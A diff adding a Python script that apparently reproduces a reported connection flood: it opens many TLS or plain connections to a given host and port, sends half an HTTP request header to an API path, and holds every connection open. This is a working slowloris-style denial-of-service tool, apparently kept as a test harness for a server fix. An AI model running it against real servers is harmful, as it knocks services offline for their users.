@@ -1,0 +1,25 @@
+"""Holds COUNT half-open connections to HOST:PORT, as the flood of issue 43 did: TLS
+handshake done (verifying nothing: an anonymous attacker), half a request header sent,
+nothing more. Prints "ready N" once N are open, then holds them until stdin closes."""
+import resource
+import socket
+import ssl
+import sys
+
+host, port, count, use_tls = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4] == "tls"
+soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, count + 256)), hard))
+context = ssl.create_default_context()
+context.check_hostname = False
+context.verify_mode = ssl.CERT_NONE
+held = []
+for _ in range(count):
+    try:
+        raw = socket.create_connection((host, port), timeout=10)
+        conn = context.wrap_socket(raw, server_hostname=host) if use_tls else raw
+        conn.sendall(b"GET /api/v1/namespaces HTTP/1.1\r\nhost: x\r\nx-half: ")
+        held.append(conn)
+    except OSError:
+        pass
+print(f"ready {len(held)}", flush=True)
+sys.stdin.read()
